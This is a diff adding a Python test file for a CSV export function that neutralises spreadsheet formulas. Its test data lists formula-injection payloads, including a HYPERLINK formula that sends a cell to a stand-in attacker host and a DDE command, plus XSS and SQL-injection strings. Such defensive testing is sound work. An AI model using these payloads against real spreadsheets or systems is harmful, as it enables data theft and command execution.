@@ -1,0 +1,80 @@
+"""The CSV file: any cell comes back as it was written, and none is a formula."""
+
+import unicodedata
+
+import pytest
+
+from live.formats import spreadsheet
+from tests.support.taught import reopened
+
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "-2",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "﹦1",
+    " =1+1",
+    "   +1",
+    "\u00a0=1",
+    "\u200b=1",
+    "\ufeff=1",
+    "\u202e=1",
+    "\t=1",
+    "\t",
+    "\tharmless",
+    "\r=1",
+    "\n=1",
+    "\x00=1",
+]
+HARMLESS = [
+    "",
+    "Paris",
+    "1,3",
+    "a=b",
+    "x-ray",
+    "mail@example.org",
+    'She said "no"',
+    "two\nlines",
+    "two\r\nlines",
+    "semi;colon",
+    "'quoted",
+    "שלום",
+    "مرحبا",
+    "👩‍🏫 𝕏",
+    "e\u0301",
+    "</script><script>alert(1)</script>",
+    "{{ room }}",
+    "'; DROP TABLE live_room; --",
+]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_a_cell_that_a_spreadsheet_could_run_stands_behind_an_apostrophe(cell):
+    assert spreadsheet.safe(cell) == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", HARMLESS)
+def test_any_other_cell_stays_as_it_is(cell):
+    assert spreadsheet.safe(cell) == cell
+
+
+def test_a_file_reopened_has_every_cell_in_its_place():
+    rows = [HARMLESS, *([cell, "between", cell] for cell in HARMLESS)]
+    assert reopened(spreadsheet.write(rows)) == rows
+
+
+def test_no_cell_of_a_reopened_file_begins_like_a_formula():
+    cells = [cell for row in reopened(spreadsheet.write([FORMULAS, *([cell] for cell in FORMULAS)])) for cell in row]
+    first = {unicodedata.normalize("NFKC", cell.strip())[:1] for cell in cells}
+    assert (len(cells), first) == (2 * len(FORMULAS), {"'"})
+
+
+def test_the_file_begins_with_the_mark_of_utf_8_and_ends_its_lines_as_the_standard_says():
+    assert spreadsheet.write([["Zoë", "1"], ["𝕏", ""]]) == b"\xef\xbb\xbfZo\xc3\xab,1\r\n\xf0\x9d\x95\x8f,\r\n"
